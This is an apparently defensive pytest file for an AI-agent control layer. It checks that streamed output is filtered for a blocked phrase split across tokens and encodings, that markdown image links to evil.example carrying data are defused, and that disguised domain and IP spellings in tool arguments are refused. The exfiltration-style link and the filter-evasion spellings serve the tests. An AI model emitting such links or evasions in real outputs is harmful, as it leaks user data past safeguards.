"""Answers that come in pieces, and arguments of any type: what a rule or a blocked domain would let slip through."""

from __future__ import annotations

import io
import json
from collections import deque
from collections.abc import Iterator
from types import MappingProxyType
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.routing import WebSocketRoute
from starlette.testclient import TestClient
from starlette.websockets import WebSocket, WebSocketDisconnect

from halon.control import EgressBlocked, GuardrailHit, Refused
from halon.control.egress import egress_refusal, may_reach
from halon.control.guardrails import texts_in
from halon.control.outgoing import Talk, body_that_may_leave
from halon.control.switches import Switches

RULE = {"guardrails/secret": {"blocks": "project zephyr"}}
LINKS = {"links": {"blocked": True}}
TOKENS = ["about proj", "ect zeph", "yr"]
LINK = ["see ![x](", "htt", "ps:", "//evil.example", "/?d=1", ")"]
KINDS = {
    "sse": b"text/event-stream",
    "ndjson": b"application/x-ndjson",
    "row": b"application/json",
    "text": b"text/plain",
}


def streamed(form: str, tokens: list[str]) -> tuple[bytes, str]:
    """A content type, and an answer in tokens."""
    openai = [json.dumps({"choices": [{"index": 0, "delta": {"content": one}}]}) for one in tokens]
    frames = {
        "sse": "".join(f"event: token\ndata: {one}\n\n" for one in openai) + "data: [DONE]\n\n",
        "sse plain": "".join(f"data: {one}\n\n" for one in tokens),
        "sse two lines": "".join(f'data: {{"delta":\ndata: {json.dumps(one)}}}\n\n' for one in tokens),
        "ndjson": "".join(f"{one}\n" for one in openai),
        "row": "".join(openai),
        "text ndjson": "\n".join(openai),
        "text prefixed": "".join(f"0:{json.dumps([one])}\n" for one in tokens),
    }
    return KINDS[form.split()[0]], frames[form]


FORMS = ["sse", "sse plain", "sse two lines", "ndjson", "row", "text ndjson", "text prefixed"]


def texts_of(said: str) -> str:
    """What a reader puts together: the texts of all frames in their order, or the data of the lines."""
    found = list[str]()

    def walk(value: Any) -> None:
        if isinstance(value, str):
            found.append(value)
        for one in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            walk(one)

    lines = said.replace("}{", "}\n{").splitlines()
    for line in (one for one in lines if not one.startswith("event:")):
        body = line.removeprefix("data:").removeprefix("0:").strip(" ")
        try:
            walk(json.loads(body))
        except ValueError:
            found.append(line.removeprefix("data:").removeprefix(" "))
    return "".join(found)


@pytest.mark.parametrize("form", FORMS)
def test_a_rule_finds_what_comes_token_by_token(form: str) -> None:
    """In each form of a stream; the same stream with other words leaves with its words."""
    kind, said = streamed(form, TOKENS)
    with pytest.raises(GuardrailHit, match="rule secret"):
        body_that_may_leave(Switches(RULE), [(b"content-type", kind)], said.encode())
    kind, said = streamed(form, ["about proj", "ect other", " things"])
    left = body_that_may_leave(Switches(RULE), [(b"content-type", kind)], said.encode())[1].decode()
    assert "about project other things" in texts_of(left)


@pytest.mark.parametrize("form", FORMS)
def test_a_link_in_tokens_is_defused(form: str) -> None:
    """Put together it is no link any more; its words are still there, and each frame is still one."""
    kind, said = streamed(form, LINK)
    left = body_that_may_leave(Switches(LINKS), [(b"content-type", kind)], said.encode())[1].decode()
    whole = texts_of(left)
    assert "://" not in whole
    assert "](" not in whole
    assert "https[:]//evil[.]example/?d=1" in whole
    assert left.count("\n\n") == said.count("\n\n")
    assert left.count("delta") == said.count("delta")


def test_two_answers_interleaved_are_told_apart() -> None:
    """Tokens of a second choice between those of the first hide nothing."""
    rows = [{"choices": [{"index": at % 2, "delta": {"content": one}}]} for at, one in
            enumerate(["about proj", "Hello", "ect zeph", "you", "yr", "."])]  # fmt: skip
    body = "".join(f"data: {json.dumps(one)}\n\n" for one in rows).encode()
    with pytest.raises(GuardrailHit):
        body_that_may_leave(Switches(RULE), [(b"content-type", b"text/event-stream")], body)


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (b"text/event-stream", b'data: {"delta":"project zephy\\u0072"}\n\n'), (b"text/plain", b'{"a":"project zephy\\u0072"}'),
        (b"text/plain; charset=utf-16", "project zephyr".encode("utf-16")), (b"text/html", b"project&nbsp;zephyr"),
        (b"application/json", json.dumps({"a": "project zephyr"}).encode("utf-16-le")), (b"text/html", b"pro<b>ject z</b>ephyr"),
        (b"text/plain", b"proj\x00ect zephyr"), (b"application/json", b'{"a":["proj","ect zephyr"]}'),
        (b"text/plain; charset=no-such", b"hello"),
    ],
)  # fmt: skip
def test_no_spelling_of_the_bytes_hides_a_rule(kind: bytes, body: bytes) -> None:
    """Escapes, letters in two bytes, entities, tags and unseen characters; letters that nobody knows are held back."""
    with pytest.raises(GuardrailHit):
        body_that_may_leave(Switches(RULE), [(b"content-type", kind)], body)


def test_escapes_in_a_stream_hide_no_link_and_letters_stay_whole() -> None:
    """What is written anew is UTF-8 and says so; a character that a stream cuts in two stays one."""
    body = b'data: {"d":"https:\\/\\/evil.example\\/a"}\n\ndata: {"d":"\\ud83d"}\n\ndata: {"d":"\\ude00"}\n\n'
    left = body_that_may_leave(Switches(LINKS), [(b"content-type", b"text/event-stream")], body)[1].decode()
    assert left.startswith('data: {"d": "https[:]//evil[.]example/a"}\n\n')
    assert "\\ud83d" in left
    headers, said = body_that_may_leave(Switches(LINKS), [(b"content-type", b"text/plain; charset=latin-1")], b"\xe4")
    assert (said, headers[0]) == ("ä".encode(), (b"content-type", b"text/plain; charset=utf-8"))


def test_a_websocket_is_looked_at_over_its_messages(agent: Any) -> None:
    """A rule ends the talk at the token that completes it; no link comes together from tokens."""

    async def talk(socket: WebSocket) -> None:
        await socket.accept()
        while True:
            await socket.send_text(await socket.receive_text())

    app = agent.control.asgi(Starlette(routes=[WebSocketRoute("/talk", talk)]), turns=["/*"])
    client = TestClient(app, headers={"Authorization": "Bearer control-tests-token"})
    client.put("/halon/control/links", json={"blocked": True}).raise_for_status()
    client.put("/halon/control/guardrails/secret", json={"blocks": "project zephyr"}).raise_for_status()
    with client.websocket_connect("/talk") as socket:
        said = ""
        for token in LINK:
            socket.send_text(json.dumps({"type": "token", "delta": token}))
            said += json.loads(socket.receive_text())["delta"]
        assert "://" not in said
        assert "](" not in said
        for token in TOKENS[:2]:
            socket.send_text(json.dumps({"type": "token", "delta": token}))
            assert json.loads(socket.receive_text())["delta"] == token
        socket.send_text(json.dumps({"type": "token", "delta": TOKENS[2]}))
        with pytest.raises(WebSocketDisconnect):
            socket.receive_text()


@pytest.mark.parametrize("cut", range(1, 30))
def test_a_link_cut_anywhere_does_not_come_together(cut: int) -> None:
    """Plain messages of a websocket, cut at each place."""
    whole, talk = "see ![x](https://evil.example/?d=1)", Talk()
    said = "".join(talk.may_go_on(Switches(LINKS), part) for part in (whole[:cut], whole[cut:]))
    assert "://" not in said
    assert "](" not in said


class Slots:
    """An object that says nothing of itself."""

    __slots__ = ("__text",)

    def __init__(self, text: Any) -> None:
        self.__text = text


class Fields:
    """Another one."""

    def __init__(self, text: Any) -> None:
        self.text = text
        self.me = self


class Silent:
    """One that can't be asked."""

    def __str__(self) -> str:
        raise RuntimeError("no")


def one_by_one(text: str) -> Iterator[str]:
    yield text


VALUES = [
    Slots("project zephyr"), Fields("project zephyr"), Fields([Slots("project zephyr")]), memoryview(b"project zephyr"),
    {"k": "project zephyr"}.values(), {"project zephyr": 1}.items(), deque(["project zephyr"]), one_by_one("project zephyr"),
    MappingProxyType({"k": "project zephyr"}), httpx.Headers({"k": "project zephyr"}), io.StringIO("project zephyr"),
    Silent(), "proj\x08ect zephyr", '{"a": "project zephy\\u0072"}', "project zephyr".encode("utf-16"), [one_by_one("x")],
]  # fmt: skip


@pytest.mark.parametrize("value", VALUES, ids=lambda one: type(one).__name__)
def test_no_type_of_value_hides_a_rule(agent: Any, value: Any) -> None:
    """Objects are looked at in their text and what they hold; what can't be looked at is refused, and nothing runs."""
    calls = list[Any]()
    fetch = agent.control.tool("fetch")(calls.append)
    with agent.control._store.changing() as db:
        db.execute("UPDATE kept SET value = ? WHERE name = 'switches'", (json.dumps(RULE),))
    with pytest.raises(GuardrailHit):
        fetch(value)
    assert calls == []
    fetch({"fine": Fields("other words"), "n": 7, "none": None})
    assert len(calls) == 1


def test_a_number_counts_as_its_digits() -> None:
    """A card's number is one in either form; true and null say nothing."""
    assert [text for _, text in texts_in([4111, 2.5, True, None])] == ["2.5", "4111"]


ADDRESSES = [
    httpx.URL("https://evil.example/x"), "https://ev\til.example/x", "https://ev\nil.example/x", "https://ev\u00adil.example",
    Fields(httpx.URL("https://evil.example")), httpx.Request("GET", "https://evil.example/x"), "//evil.example/x",
    "https:/evil.example/x", b"https://evil.example", {"k": httpx.URL("https://evil.example")}.values(),
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES, ids=lambda one: f"{type(one).__name__} {one!r:.40}")
@pytest.mark.parametrize("kept", [{"egress/evil.example": {"blocked": True}}, {"egress": {"only": ["good.example"]}}])
def test_no_type_or_spelling_hides_a_domain(address: Any, kept: dict[str, Any]) -> None:
    """Neither from what is blocked nor from the list of what alone is allowed."""
    refusal = egress_refusal(Switches(kept), "fetch", {"target": address}, None)
    assert isinstance(refusal, EgressBlocked)
    if isinstance(address, (str, httpx.URL)):
        assert not may_reach(Switches(kept), address)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("name", "value", "refused"),
    [
        ("target", "evil.example", True), ("target", "evil.example:8443/x", True), ("to", "10.0.0.1:80", True),
        ("to", "10.0.0.1", True), ("to", "[2001:db8::1]:443", True), ("to", "2001:db8::1", True), ("to", "localhost:80", True),
        ("endpoint_url", "evil.example", True), ("endpointUrl", "inside", True), ("to", "0x7f.0.0.1", True),
        ("text", "see https:/evil.example now", True), ("text", "see //evil.example/x now", True), ("to", "x@[10.0.0.1]", True),
        ("name", "evil.zip", True), ("file_path", "notes.md", False), ("name", "report.pdf", False), ("text", "e.g.", False),
        ("text", "it costs 3.50 (net)", False), ("at", "12:30", False), ("version", "1.2.3", False), ("id", "order:1001", False),
        ("path", "C:/data/ann", False), ("target", "good.example", False), ("target", "api.good.example:443", False),
        ("text", "a // b", False), ("address", "12 Main Street", False), ("n", 7, False),
    ],
)  # fmt: skip
def test_beyond_the_list_every_text_that_looks_like_a_host_is_refused(name: str, value: Any, refused: bool) -> None:
    """A host or an IP address without a scheme, in any argument; times, prices, ids and files are none."""
    found = egress_refusal(Switches({"egress": {"only": ["good.example"]}}), "fetch", {name: value}, None)
    assert isinstance(found, Refused) is refused
